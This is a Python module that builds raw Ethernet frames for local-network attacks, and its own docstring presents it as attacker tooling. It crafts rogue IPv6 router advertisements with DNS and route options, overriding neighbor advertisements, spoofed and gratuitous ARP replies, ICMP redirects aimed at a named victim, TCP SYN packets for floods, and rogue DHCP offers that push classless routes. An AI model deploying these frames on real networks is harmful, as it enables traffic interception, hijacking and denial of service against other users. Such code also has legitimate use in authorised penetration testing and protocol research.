"""Ethernet frames as bytes, the way an attacker makes them: router advertisements, ARP, redirects, DHCP, floods."""

# SPDX-License-Identifier: MIT

from __future__ import annotations

import ipaddress
import socket
import struct

BROADCAST = "ff:ff:ff:ff:ff:ff"
ALL_NODES, ALL_NODES_MAC = "ff02::1", "33:33:00:00:00:01"
IP4, ARP, IP6, VLAN = 0x0800, 0x0806, 0x86DD, 0x8100
COOKIE = b"\x63\x82\x53\x63"  # RFC 2131, section 3
PREFERENCE = {"low": 0x18, "medium": 0x00, "high": 0x08}  # RFC 4191, section 2.2
FOREVER = 0xFFFFFFFF


def hardware(mac):
    return bytes.fromhex(mac.replace(":", ""))


def packed(address):
    return ipaddress.ip_address(address).packed


def ethernet(source, target, kind, payload, vlan=None):
    """`vlan`: the identifier of an 802.1Q tag."""
    tag = b"" if vlan is None else struct.pack("!HH", VLAN, vlan)
    return hardware(target) + hardware(source) + tag + struct.pack("!H", kind) + payload


def checksum(data):
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# --- IPv6 ---


def ip6(source, target, protocol, payload, hops=255):
    header = struct.pack("!IHBB", 6 << 28, len(payload), protocol, hops)
    return header + packed(source) + packed(target) + payload


def icmp6(source, target, kind, body):
    """`body` follows the type, code and checksum (RFC 4443, section 2.3)."""
    pseudo = packed(source) + packed(target) + struct.pack("!II", len(body) + 4, 58)
    value = checksum(pseudo + struct.pack("!BBH", kind, 0, 0) + body)
    return ip6(source, target, 58, struct.pack("!BBH", kind, 0, value) + body)


def _option(kind, body):
    """Neighbor discovery counts the length of an option in units of 8 bytes (RFC 4861, section 4.6)."""
    body += b"\0" * (-(len(body) + 2) % 8)
    return struct.pack("!BB", kind, (len(body) + 2) // 8) + body


def prefix_information(prefix, flags=0xC0, valid=FOREVER):
    """`flags`: 0x80 on-link, 0x40 autonomous (RFC 4861, section 4.6.2); `valid` in seconds."""
    network = ipaddress.ip_network(prefix)
    fixed = struct.pack("!BBIII", network.prefixlen, flags, valid, valid, 0)
    return _option(3, fixed + network.network_address.packed)


def route_information(prefix, preference="high", lifetime=FOREVER):
    """RFC 4191, section 2.3."""
    network = ipaddress.ip_network(prefix)
    fixed = struct.pack("!BBI", network.prefixlen, PREFERENCE[preference], lifetime)
    return _option(24, fixed + network.network_address.packed)


def mtu(size):
    return _option(5, struct.pack("!HI", 0, size))


def rdnss(*servers):
    """RFC 8106, section 5.1."""
    return _option(25, struct.pack("!HI", 0, FOREVER) + b"".join(map(packed, servers)))


def router_advertisement(
    mac, source, *options, lifetime=1800, preference="high", hops=64, timers=(0, 0)
):
    """`lifetime` in seconds: 0 is no default router. The source is link-local (RFC 4861, section 6.1.2).

    `timers`: reachable and retransmission time in milliseconds, 0 where it says nothing of it.
    """
    fixed = struct.pack("!BBHII", hops, PREFERENCE[preference], lifetime, *timers)
    body = fixed + _option(1, hardware(mac)) + b"".join(options)
    return ethernet(mac, ALL_NODES_MAC, IP6, icmp6(source, ALL_NODES, 134, body))


def neighbor_advertisement(mac, address, target_mac=ALL_NODES_MAC, target=ALL_NODES):
    """Unsolicited and overriding, from a router (RFC 4861, section 4.4)."""
    body = struct.pack("!I", 0xA0000000) + packed(address) + _option(2, hardware(mac))
    return ethernet(mac, target_mac, IP6, icmp6(address, target, 136, body))


def redirect6(mac, victim_mac, router, victim, destination, gateway):
    """RFC 4861, section 4.5: packets to `destination` are to go to `gateway`."""
    body = struct.pack("!I", 0) + packed(gateway) + packed(destination) + _option(2, hardware(mac))
    return ethernet(mac, victim_mac, IP6, icmp6(router, victim, 137, body))


# --- IPv4 ---


def arp(mac, address, target_mac=BROADCAST, target=None, reply=True):
    """A reply that says where `address` is; without `target` a gratuitous one."""
    operation = 2 if reply else 1
    fixed = struct.pack("!HHBBH", 1, IP4, 6, 4, operation)
    there = packed(target or address)
    body = fixed + hardware(mac) + packed(address) + hardware(target_mac) + there
    return ethernet(mac, target_mac, ARP, body)


def ip4(source, target, protocol, payload, options=b""):
    options += b"\0" * (-len(options) % 4)
    words, total = 5 + len(options) // 4, 20 + len(options) + len(payload)
    fixed = struct.pack("!BBHHHBBH", 0x40 | words, 0, total, 1, 0, 64, protocol, 0)
    header = fixed + packed(source) + packed(target) + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def udp4(source, target, ports, payload, options=b""):
    """`ports`: from and to. No checksum, which IPv4 allows."""
    header = struct.pack("!HHHH", *ports, 8 + len(payload), 0)
    return ip4(source, target, socket.IPPROTO_UDP, header + payload, options)


def syn4(source, target, ports):
    pseudo = packed(source) + packed(target) + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    fields = [*ports, 1, 0, 0x50, 2, 65535]
    value = checksum(pseudo + struct.pack("!HHIIBBHHH", *fields, 0, 0))
    return ip4(source, target, socket.IPPROTO_TCP, struct.pack("!HHIIBBHHH", *fields, value, 0))


def redirect4(mac, victim_mac, router, victim, destination, gateway):
    """ICMP redirect for hosts, with the packet that it is about (RFC 792)."""
    cause = udp4(victim, destination, (9, 9), b"")
    body = struct.pack("!BBH", 5, 1, 0) + packed(gateway) + cause
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ethernet(mac, victim_mac, IP4, ip4(router, victim, socket.IPPROTO_ICMP, body))


def dhcp_options(settings):
    """`settings`: option number to bytes (RFC 2132)."""
    parts = (struct.pack("!BB", number, len(value)) + value for number, value in settings.items())
    return b"".join(parts) + b"\xff"


def classless(routes):
    """Option 121 or 249 (RFC 3442): prefix to gateway."""
    made = b""
    for prefix, gateway in routes.items():
        network = ipaddress.ip_network(prefix)
        significant = network.network_address.packed[: (network.prefixlen + 7) // 8]
        made += bytes([network.prefixlen]) + significant + packed(gateway)
    return made


def dhcp_kind(question):
    """The value of option 53 of a BOOTP message, which comes in any place; 0 if there is none."""
    options = question[240:]
    while len(options) > 2 and options[0] != 53:
        options = options[1:] if options[0] == 0 else options[2 + options[1] :]
    return options[2] if len(options) > 2 else 0


def dhcp_answer(question, kind, server, offered, settings):
    """The OFFER (2) or ACK (5) for the BOOTP message `question`."""
    fixed = b"\x02" + question[1:12] + bytes(4) + packed(offered) + packed(server) + bytes(4)
    client = question[28:44] + bytes(192)
    more = {53: bytes([kind]), 54: packed(server), 51: struct.pack("!I", 600), **settings}
    return fixed + client + COOKIE + dhcp_options(more)
